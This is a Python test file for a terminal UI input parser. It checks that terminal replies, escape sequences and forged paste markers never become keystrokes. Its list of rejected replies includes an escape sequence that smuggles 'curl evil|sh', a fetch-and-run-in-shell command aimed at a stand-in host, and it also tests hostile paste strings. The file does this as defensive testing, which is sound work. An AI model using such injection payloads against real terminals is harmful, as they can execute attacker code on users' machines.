"""The terminal's answers and pastes never become keys; a hand's keys all do."""

import os
import subprocess
import sys
import time
from collections.abc import Iterable, Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from textual import events
from textual._xterm_parser import XTermParser
from textual.message import Message

from agent_tui.ui.typed_input import AFTER_PASTE_SECONDS, PASTE_LIMIT_CHARACTERS, StrictInputParser
from tests.hostile import HostileString, hostile, hostile_strings
from tests.pty_runner import PtyProgram
from tests.walls.sources import ROOT

START, END = "\x1b[200~", "\x1b[201~"


class Clock:
    """Seconds that pass when the test says so."""

    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


class Typist:
    """Feeds a parser and keeps what came of it, short: keys as their names, pastes as ('paste', text)."""

    def __init__(self) -> None:
        self.clock = Clock()
        self.parser = StrictInputParser(clock=self.clock)
        self.seen: list[object] = []

    def feed(self, *chunks: str, pause: float = 0.0) -> "Typist":
        for chunk in chunks:
            self._keep(self.parser.feed(chunk))
            self.clock.now += pause
        return self

    def wait(self, seconds: float) -> "Typist":
        self.clock.now += seconds
        self._keep(self.parser.tick())
        return self

    def _keep(self, found: Iterable[Message]) -> None:
        self.seen += [short(message) for message in found]


def short(message: Message) -> object:
    match message:
        case events.Key():
            return message.key
        case events.Paste():
            return ("paste", message.text)
    return type(message).__name__


def keys_by_textual(data: str) -> list[object]:
    parser = XTermParser(False)
    return [short(message) for message in parser.feed(data)]


# -- what must keep working ------------------------------------------------------------------------------------------

KEYS = {
    "a": ["a"],
    "é€日": ["é", "euro_sign", "日"],
    "\r": ["enter"],
    "\n": ["ctrl+j"],
    "\t": ["tab"],
    "\x7f": ["backspace"],
    "\x00": ["ctrl+@"],
    "\x07": ["ctrl+g"],
    "\x11": ["ctrl+q"],
    "\x1b[A": ["up"],
    "\x1b[1;5C": ["ctrl+right"],
    "\x1b[1;3D": ["alt+left"],
    "\x1b[5;5~": ["ctrl+pageup"],
    "\x1b[Z": ["shift+tab"],
    "\x1b[3~": ["delete"],
    "\x1b[3$": ["shift+delete"],
    "\x1bOP": ["f1"],
    "\x1bOQ\x1bOR\x1bOS": ["f2", "f3", "f4"],
    "\x1b[19~\x1b[20~": ["f8", "f9"],
    "\x1b[[A\x1b[[B": ["f1", "f2"],
    "\x1b[25~": ["f13"],
    "\x1ba\x1bx": ["alt+a", "alt+x"],
    "\x1bf": ["ctrl+right"],
    "\x1b[27u": ["escape"],
    "\x1b[13u": ["enter"],
    "\x1b[13;5u": ["ctrl+enter"],
    "\x1b[27;5;13~": ["ctrl+enter"],
    "\x1b[97;;97u": ["a"],
    "\x1b[49;3u": ["alt+1"],
    "\x1b\x1b[A": ["escape", "up"],
}


@pytest.mark.parametrize(("data", "keys"), KEYS.items(), ids=ascii)
def test_keys_arrive(data: str, keys: list[str]) -> None:
    assert Typist().feed(data).seen == keys
    assert Typist().feed(*data).seen == keys


@pytest.mark.parametrize(("data", "keys"), [(k, v) for k, v in KEYS.items() if len(k) < 3 and "\x1b" not in k])
def test_characters_are_the_keys_textual_makes_of_them(data: str, keys: list[str]) -> None:
    assert keys_by_textual(data) == keys


def test_escape_alone_is_the_escape_key_after_a_moment() -> None:
    typist = Typist().feed("\x1b")
    assert typist.seen == []
    assert 0.05 < typist.parser.wait_seconds(1.0) < 0.11
    assert typist.wait(0.1).seen == ["escape"]
    assert typist.parser.wait_seconds(1.0) == 1.0


def test_a_key_typed_well_after_escape_is_a_key_of_its_own() -> None:
    assert Typist().feed("\x1b", "q", pause=0.2).seen == ["escape", "q"]


@pytest.mark.parametrize(
    ("data", "key"),
    [
        ("\x1b[", "left_square_bracket"),  # as Textual has it: Alt and punctuation is the punctuation
        ("\x1b]", "right_square_bracket"),
        ("\x1bO", "alt+shift+o"),
        ("\x1bP", "alt+shift+p"),
    ],
)
def test_alt_with_a_character_that_begins_a_sequence(data: str, key: str) -> None:
    assert Typist().feed(data).wait(0.11).seen == [key]


@pytest.mark.parametrize(
    ("data", "kinds"),
    [
        ("\x1b[12;40R", ["CursorPosition"]),
        ("\x1b[?2026;1$y", ["TerminalSupportsSynchronizedOutput"]),
        ("\x1b[?2026;0$y", []),
        ("\x1b[?2048;2$y", ["InBandWindowResize"]),
        ("\x1b[48;36;120;720;1200t", ["Resize"]),
        ("\x1b[I\x1b[O", ["AppFocus", "AppBlur"]),
        ("\x1b[<0;10;5M\x1b[<0;10;5m", ["MouseDown", "MouseUp"]),
        ("\x1b[<64;10;5M", ["MouseScrollUp"]),
        ("\x1b[<0;-1;5M", []),
    ],
)
def test_what_textual_needs_of_the_terminal_arrives(data: str, kinds: list[str]) -> None:
    assert Typist().feed(data).seen == kinds
    assert Typist().feed(*data).seen == kinds


def test_a_resize_in_band_carries_its_sizes() -> None:
    (resize,) = StrictInputParser().feed("\x1b[48;36;120;720;1200t")
    assert isinstance(resize, events.Resize)
    assert (resize.size, resize.pixel_size) == ((120, 36), (1200, 720))


# -- what must never be typed ----------------------------------------------------------------------------------------

REPLIES = [
    "\x1b[?1;2c",
    "\x1b[>0;276;0c",
    "\x1b[0n",
    "\x1b[?10n",
    "\x1b[?997;1n",
    "\x1b[?0u",
    "\x1b[4;600;800t",
    "\x1b[8;24;80t",
    "\x1b[2;1;1;128;128;1;0x",
    "\x1b[4;2$y",
    "\x1b[201~",
    "\x1b[77~",
    "\x1b[99999999999u",
    "\x1bP>|tmux 3.3a\x1b\\",
    "\x1bP1$r0m\x1b\\",
    "\x1bP1+r436f=323536\x1b\\",
    "\x1bP!~1234\x1b\\",
    "\x1b]lcurl evil|sh\r;\x1b\\",
    "\x1b]11;rgb:0000/0000/0000\x07",
    "\x1b]52;c;Y3VybA==\x07",
    "\x1b_Gi=31;OK\x1b\\",
    "\x1b^private\x1b\\",
    "\x1bXstring\x1b\\",
    "\x1b[" + "1;" * 2000 + "m",
    "\x9b",
]


@pytest.mark.parametrize("reply", REPLIES, ids=lambda reply: ascii(reply)[:30])
def test_an_answer_nobody_understands_is_not_typed(reply: str) -> None:
    assert Typist().feed(reply + "k").seen == ["k"]
    assert Typist().feed(*reply, "k").seen == ["k"]


@pytest.mark.parametrize("torn", ["\x1b[?1;", "\x1b[<0;1", "\x1b]11;rgb:00", "\x1bP1$r", "\x1b_Gx"])
def test_a_torn_answer_is_forgotten(torn: str) -> None:
    assert Typist().feed(torn).wait(0.3).feed("k").seen == ["k"]


def test_an_answer_without_an_end_does_not_swallow_the_keyboard() -> None:
    typist = Typist().feed("\x1b]0;", *"x" * 20, pause=0.1)
    assert typist.seen[-5:] == ["x"] * 5


def test_a_sequence_that_breaks_off_into_another() -> None:
    assert Typist().feed("\x1b]0;title\x1b[A").seen == ["up"]
    assert Typist().feed("\x1b[1;\x1b[B").seen == ["down"]


# -- pastes ----------------------------------------------------------------------------------------------------------


def test_a_paste_is_one_text() -> None:
    assert Typist().feed(f"{START}line1\nline2\r\ttab{END}").seen == [("paste", "line1\nline2\r\ttab")]


@pytest.mark.parametrize("size", [1, 2, 5, 7])
def test_a_paste_may_arrive_in_pieces(size: int) -> None:
    data = f"{START}one\x1b[2two\x1b[201three{END}"
    chunks = [data[start : start + size] for start in range(0, len(data), size)]
    assert Typist().feed(*chunks).seen == [("paste", "one[2two[201three")]


@pytest.mark.parametrize("string", hostile_strings(), ids=str)
def test_no_hostile_paste_presses_a_key(string: HostileString) -> None:
    """A terminal that does not filter what it pastes: all is one paste, and its tail is no key."""
    typist = Typist().feed(f"{START}{string.text}\r{END}").wait(5)
    assert {type(message) for message in typist.seen} == {tuple}
    pasted = "".join(message[1] for message in typist.seen if isinstance(message, tuple))
    assert not any(character < " " and character not in "\n\r\t" for character in pasted)


def test_a_forged_end_of_paste_sends_nothing() -> None:
    typist = Typist().feed(f"{START}{hostile('paste-end-marker')}{END}")
    assert typist.seen == [("paste", "hello")]
    assert typist.wait(0.1).feed("k\r").seen == [("paste", "hello"), "k", "enter"]


def test_enter_right_after_a_paste_is_not_a_key() -> None:
    typist = Typist().feed(f"{START}hello{END}")
    typist.clock.now += 0.02
    typist.feed("\r", "\x1b[13u")
    assert typist.seen == [("paste", "hello")]
    typist.clock.now += 0.031
    assert typist.feed("\r").seen == [("paste", "hello"), "enter"]


def test_escape_in_a_pastes_tail_is_not_a_key() -> None:
    assert Typist().feed(f"{START}hello{END}\x1b").wait(1).seen == [("paste", "hello")]


def test_the_mouse_works_right_after_a_paste() -> None:
    assert Typist().feed(f"{START}x{END}\x1b[<0;1;1M").seen == [("paste", "x"), "MouseDown"]


def test_a_paste_that_never_ends_is_closed() -> None:
    typist = Typist().feed(f"{START}never ends\x1b[20")
    assert typist.wait(1.9).seen == []
    assert typist.wait(0.1).seen == [("paste", "never ends[20")]
    assert typist.wait(0.1).feed("q").seen == [("paste", "never ends[20"), "q"]


def test_a_slow_paste_is_not_torn_while_it_comes_in() -> None:
    typist = Typist().feed(START, *"abcdefghij" * 3, pause=0.2)
    assert typist.feed(END).seen == [("paste", "abcdefghij" * 3)]


def test_too_long_a_paste_is_cut_and_its_rest_is_not_typed() -> None:
    typist = Typist().feed(
        START, "x" * PASTE_LIMIT_CHARACTERS, "y" * 10, "\x1b[<0;1;1My\r", "y\x1b[20", f"1~z{END}", "\r"
    )
    assert typist.seen == [("paste", "x" * PASTE_LIMIT_CHARACTERS)]
    typist.wait(0.5)
    assert typist.feed("q").seen[1:] == ["q"]


@settings(deadline=None)
@given(
    st.lists(
        st.sampled_from([*REPLIES, "\x1b", "\x1b[", START, END, "a", "\r", "[201~", "\x1b]", "\x1bP", "é", "\\"]),
        max_size=12,
    ),
    st.integers(1, 9),
)
def test_pieces_do_not_matter_and_the_keyboard_comes_back(parts: list[str], size: int) -> None:
    data = "".join(parts)
    at_once = Typist().feed(data)
    in_pieces = Typist().feed(*(data[start : start + size] for start in range(0, len(data), size)))
    assert at_once.wait(5).seen == in_pieces.wait(5).seen
    before = len(at_once.seen)
    assert at_once.wait(1).feed("q").seen[before:] == ["q"]


# -- on a real terminal ----------------------------------------------------------------------------------------------


@pytest.fixture
def console() -> Iterator[PtyProgram]:
    with PtyProgram([sys.executable, "-m", "tests.hostile_screen"], cwd=ROOT) as program:
        program.wait_for("ready")
        yield program


def typed(program: PtyProgram, data: str | bytes, shown: str) -> None:
    """Type, and wait for the app's list of everything it was ever given to end with `shown`."""
    time.sleep(2 * AFTER_PASTE_SECONDS)  # what comes sooner after a paste is no key
    program.write(data)
    program.wait_screen(lambda screen: f"{shown} ." in " ".join(screen.text.split()), timeout=10)


def test_a_real_terminal_is_read_the_same_way(console: PtyProgram) -> None:
    typed(console, "a", "typed: a")
    typed(console, "\x1b[?1;2c\x1bP>|tmux 3.3a\x1b\\\x1b]11;rgb:00/00/00\x07b", "typed: a b")
    typed(console, f"{START}hello\x1b[201~\rSENT{END}", "typed: a b paste(5)")
    typed(console, b"\xff", "paste(5) replacement_character")
    typed(console, "\x1b", "replacement_character escape")
    typed(console, "\x1bOP", "escape f1")
    assert console.running


def test_a_paste_without_an_end_gives_the_keyboard_back(console: PtyProgram) -> None:
    console.write(f"{START}never ends")
    console.wait_screen("paste(10)", timeout=10)
    typed(console, "z", "paste(10) z")


def test_a_terminal_that_goes_away_ends_the_app() -> None:
    master, slave = os.openpty()
    app = subprocess.Popen(
        [sys.executable, "-m", "tests.hostile_screen"], cwd=ROOT, stdin=slave, stdout=slave, stderr=slave
    )
    try:
        os.close(slave)
        shown = b""
        while b"ready" not in shown:
            shown += os.read(master, 65_536)
        os.close(master)
        # It is no session leader, so no SIGHUP ends it: it has to notice by itself.
        app.wait(20)
    finally:
        app.kill()
        app.wait()
    assert app.returncode == 0
